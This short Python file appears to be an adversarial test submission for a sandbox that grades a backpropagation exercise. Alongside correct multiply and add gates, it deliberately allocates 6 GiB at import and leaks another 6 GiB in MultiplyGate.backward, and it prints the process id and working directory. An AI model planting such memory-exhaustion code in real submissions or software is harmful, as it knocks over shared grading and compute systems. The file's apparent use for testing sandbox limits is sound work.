"""Attack: allocate 6 GiB, at import (in one go) and in MultiplyGate.backward (in
256 MiB steps, keeping every step, as a leak would)."""
import os

import numpy as np

print("pid=%d" % os.getpid())
print("scratch=%s" % os.getcwd())

try:
    hoard = bytearray(6 << 30)
    print("bpgpwn: allocated 6 GiB at import")
except MemoryError:
    print("import: MemoryError")


class MultiplyGate(object):
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y

    def backward(self, dz):
        kept = []
        for _ in range(24):  # 24 x 256 MiB = 6 GiB
            kept.append(np.zeros(256 << 20, dtype=np.uint8))
        return [self.y * dz, self.x * dz]


class AddGate(object):
    def forward(self, x, y):
        return x + y

    def backward(self, dz):
        return [dz, dz]
